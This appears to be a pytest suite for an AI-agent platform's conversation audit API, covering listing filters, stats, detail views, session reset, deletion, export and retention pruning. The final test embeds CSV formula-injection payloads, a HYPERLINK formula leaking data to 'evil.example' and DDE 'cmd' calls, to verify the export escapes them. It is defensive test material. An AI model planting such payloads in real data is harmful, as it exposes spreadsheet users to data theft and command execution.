"""The conversation routes as Magec has them (list with filters and paging, stats, detail with
``?view=``, pair, summary, reset-session, delete, clear) plus export and retention, on SQLite and
PostgreSQL; bad query values are a 400 naming the parameter."""

from __future__ import annotations

import csv
import io
from collections.abc import Iterator
from datetime import UTC, datetime, timedelta

import pytest
import sqlalchemy as sa

from magec.audit.tables import audit_turns
from magec.testing.apps import Apps
from magec.testing.fake_providers import FakeServer, OpenAIFake, Reply
from tests.audit.helpers import A, C, U, agent, backend, conversations, detail, only, run, turns


@pytest.fixture(scope="module")
def llm() -> Iterator[FakeServer]:
    with FakeServer(OpenAIFake("apillm")) as s:
        yield s


async def _populate(apps: Apps, llm: FakeServer) -> tuple[str, str]:
    bid = await backend(apps, llm.url)
    one = await agent(apps, bid, "One")
    two = await agent(apps, bid, "Two")
    for i in range(3):
        await run(apps, one, f"alpha question {i}", user="alice", session=f"a{i}")
    await run(apps, two, "beta question", user="bob", session="b0")
    await run(apps, two, "beta follow-up", user="bob", session="b0")
    return one, two


async def test_list_filters_paging_and_stats(apps: Apps, llm: FakeServer) -> None:
    one, two = await _populate(apps, llm)
    everything = await conversations(apps)
    assert everything["total"] == 8  # Magec lists both perspectives of each of the 4 conversations
    assert [c["perspective"] for c in everything["items"][:2]] == ["user", "admin"]
    assert everything["items"][0]["sessionId"] == everything["items"][1]["sessionId"] == "b0"  # newest first

    users = await conversations(apps, perspective="user")
    assert users["total"] == 4 and len({c["id"] for c in users["items"]}) == 4
    # paging: limit/offset over the same order, both perspectives counted like Magec
    pages = [await conversations(apps, limit=3, offset=o) for o in (0, 3, 6)]
    assert [len(p["items"]) for p in pages] == [3, 3, 2]
    assert [c["id"] for p in pages for c in p["items"]] == [c["id"] for c in everything["items"]]
    assert len((await conversations(apps, limit=0))["items"]) == 8

    assert {c["agentId"] for c in (await conversations(apps, agentId=one, perspective="user"))["items"]} == {one}
    assert (await conversations(apps, userId="bob", perspective="user"))["total"] == 1
    assert (await conversations(apps, q="FOLLOW-UP", perspective="user"))["items"][0]["sessionId"] == "b0"
    assert (await conversations(apps, source="telegram"))["total"] == 0
    tomorrow = (datetime.now(UTC) + timedelta(days=1)).date().isoformat()
    assert (await conversations(apps, **{"from": tomorrow}))["total"] == 0
    assert (await conversations(apps, to=tomorrow, perspective="user"))["total"] == 4

    stats = (await apps.admin.get(f"{C}/stats")).json()
    assert stats["total"] == 4 and stats["bySources"] == {"direct": 4} and stats["byAgents"] == {"One": 3, "Two": 1}
    assert stats["turns"] == 5 and stats["inputTokens"] == 15 and stats["outputTokens"] == 25
    assert stats["bySurfaces"] == {"run": 5} and stats["errors"] == 0
    bob = (await apps.admin.get(f"{C}/stats", params={"userId": "bob"})).json()
    assert bob["total"] == 1 and bob["turns"] == 2

    for bad in ({"limit": "x"}, {"offset": "-1"}, {"from": "yesterday"}, {"perspective": "boss"}):
        r = await apps.admin.get(C, params=bad)
        assert r.status_code == 400 and r.json()["field"] == next(iter(bad)), r.text
    r = await apps.admin.get(f"{C}/export", params={"format": "xml"})
    assert r.status_code == 400 and r.json()["field"] == "format"


async def test_detail_views_pair_summary_reset_delete_clear(apps: Apps, llm: FakeServer) -> None:
    one, two = await _populate(apps, llm)
    conv = await only(apps, userId="bob")
    user = await detail(apps, conv["id"])
    assert user["totalMessages"] == 4
    assert [(m["role"], m["content"]) for m in user["conversation"]["messages"]] == [
        ("user", "beta question"), ("assistant", "apillm says: beta question"),
        ("user", "beta follow-up"), ("assistant", "apillm says: beta follow-up")]
    # Magec's message paging: the latest msgLimit messages, msgOffset skipped from the end
    page = await detail(apps, conv["id"], msgLimit=1, msgOffset=1)
    assert [m["content"] for m in page["conversation"]["messages"]] == ["beta follow-up"]
    admin = await detail(apps, conv["id"], view="admin")
    assert admin["conversation"]["id"] != conv["id"] and admin["conversation"]["perspective"] == "admin"
    meta = admin["conversation"]["messages"][0]["metadata"]
    assert meta["surface"] == "run" and meta["model"] == "m-1" and meta["latencyMs"] > 0

    r = await apps.admin.put(f"{C}/{conv['id']}/summary", json={"summary": "Bob asked twice"})
    assert r.status_code == 200 and r.json()["summary"] == "Bob asked twice"
    assert (await only(apps, q="asked twice"))["id"] == conv["id"]

    # reset-session deletes the ADK session; the log stays
    r = await apps.admin.post(f"{C}/{conv['id']}/reset-session", json={})
    assert r.status_code == 200, r.text
    assert r.json() == {"message": "Session reset successfully", "agentId": two, "sessionId": "b0"}
    assert (await apps.user.get(f"{U}/apps/{two}/users/bob/sessions/b0")).status_code == 404
    assert (await detail(apps, conv["id"]))["totalMessages"] == 4

    # delete removes both perspectives; a later turn in that session starts a new conversation
    r = await apps.admin.delete(f"{C}/{admin['conversation']['id']}")
    assert r.status_code == 204
    assert (await apps.admin.get(f"{C}/{conv['id']}")).status_code == 404
    assert (await apps.admin.get(f"{C}/{conv['id']}/pair")).status_code == 404
    await run(apps, two, "after delete", user="bob", session="b0")
    again = await only(apps, userId="bob")
    assert again["id"] != conv["id"] and again["turns"] == 1

    r = await apps.admin.delete(f"{C}/clear")
    assert r.status_code == 204
    assert (await conversations(apps))["total"] == 0
    assert (await apps.admin.get(f"{C}/stats")).json()["turns"] == 0


async def test_export_csv_and_jsonl_with_filters(apps: Apps, llm: FakeServer) -> None:
    one, _ = await _populate(apps, llm)
    r = await apps.admin.get(f"{C}/export", params={"format": "csv", "agentId": one})
    assert r.status_code == 200 and r.headers["content-type"].startswith("text/csv")
    assert "attachment" in r.headers["content-disposition"]
    rows = list(csv.DictReader(io.StringIO(r.text)))
    assert sorted(row["userMessage"] for row in rows) == [f"alpha question {i}" for i in range(3)]
    assert {row["agentId"] for row in rows} == {one}
    lines = await turns(apps)
    assert len(lines) == 5 and all(line["steps"] for line in lines)


async def test_retention_prune(apps: Apps, llm: FakeServer) -> None:
    await _populate(apps, llm)
    assert (await conversations(apps))["total"] == 8  # reading writes what was queued
    # age two of alice's turns by 10 days, as if they were old
    async with apps.ctx.store.engine.begin() as conn:
        old = datetime.now(UTC) - timedelta(days=10)
        await conn.execute(sa.update(audit_turns).where(audit_turns.c.user_text.in_(
            ["alpha question 0", "alpha question 1"])).values(at=old))
    r = await apps.admin.put(f"{A}/settings", json={"conversations": {"retentionDays": 7}})
    assert r.status_code == 200, r.text
    r = await apps.admin.post(f"{C}/prune", json={})
    assert r.status_code == 200 and r.json() == {"deleted": 2}
    left = await conversations(apps, perspective="user")
    assert sorted(c["sessionId"] for c in left["items"]) == ["a2", "b0"]  # emptied conversations go too
    r = await apps.admin.put(f"{A}/settings", json={"conversations": {"retentionDays": 0, "maxTurns": 1}})
    assert r.status_code == 200, r.text
    assert (await apps.admin.post(f"{C}/prune", json={})).json() == {"deleted": 2}
    [t] = await turns(apps)
    assert t["userMessage"] == "beta follow-up"  # the newest turn is kept
    r = await apps.admin.put(f"{A}/settings", json={"conversations": {"maxTurns": -1}})
    assert r.status_code == 400


async def test_export_csv_cells_are_never_formulas(sqlite_apps: Apps, llm: FakeServer) -> None:
    # a user id, a message and an answer crafted to run when an admin opens the export
    user = '=HYPERLINK("http://evil.example/?x="&A1,"click")'
    message = "=2+5+cmd|' /C calc'!A0"
    answer = "@SUM(1+1)*cmd|' /C calc'!A0"
    aid = await agent(sqlite_apps, await backend(sqlite_apps, llm.url), "Sheet")
    llm.script(Reply(text=answer))
    await run(sqlite_apps, aid, message, user=user, session="formula")
    r = await sqlite_apps.admin.get(f"{C}/export", params={"format": "csv"})
    assert r.status_code == 200
    [row] = [row for row in csv.DictReader(io.StringIO(r.text)) if row["sessionId"] == "formula"]
    assert (row["userId"], row["userMessage"], row["answer"]) == ("'" + user, "'" + message, "'" + answer)
    # what no spreadsheet reads as a formula is left alone
    assert row["agentName"] == "Sheet" and row["inputTokens"].isdigit()
